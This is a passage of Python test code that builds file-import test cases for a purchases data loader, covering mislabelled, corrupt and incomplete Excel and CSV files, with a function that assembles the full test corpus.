            ["WB4", "P0001", "PR01", 1, "2026-10-25", "store", PAYLOADS[5]],
        ]
    )
    return [
        Case(
            "a workbook renamed to .csv",
            f"{DAY}/purchases_really_xlsx.csv",
            book,
            [Row(2, "loaded"), q(3, "out_of_range", "boxes"), Row(5, "loaded"), q(6, "bad_number", "amount")],
            message="an Excel workbook despite its .csv name",
            stored={
                ("purchases", "WB1"): {"boxes": 2, "purchase_date": "2026-10-25"},
                ("purchases", XLSX_FORMULA): {"purchase_date": "2026-10-21", "amount": 88.5},
            },
        ),
        Case(
            "CSV text named .xlsx",
            f"{DAY}/purchases_really_csv.xlsx",
            enc(PURCHASES_HEADER, [purchase("XC1")]),
            [Row(1, "file", "bad_workbook", None, "rejected")],
            status="rejected",
            message="not an Excel workbook",
        ),
        Case(
            "a corrupt workbook",
            f"{DAY}/purchases_corrupt.xlsx",
            b"PK\x03\x04" + b"\x00garbage" * 20,
            [Row(1, "file", "bad_workbook", None, "rejected")],
            status="rejected",
            message="the workbook cannot be read",
        ),
        Case(
            "a workbook without a required column",
            f"{DAY}/purchases_xlsx_missing.xlsx",
            xlsx_bytes([["purchase_id", "patient_id"], ["XM1", "P0001"], [None, None], ["XM2", "P0001"]]),
            [q(2, "missing_column", "product_code"), q(4, "missing_column", "product_code")],
            status="rejected",
            message="required column product_code, boxes, purchase_date missing",
        ),
    ]


def corpus(huge_megabytes: int = 50) -> list[Case]:
    cases = [
        *master(),
        *structure(),
        *encodings(),
        *values(),
        *ids_and_references(),
        huge_field(huge_megabytes),
        *payload_cases(),
        *workbooks(),
    ]
    paths = [c.path for c in cases]
    assert len(paths) == len(set(paths)), "two cases share a file"
    return cases
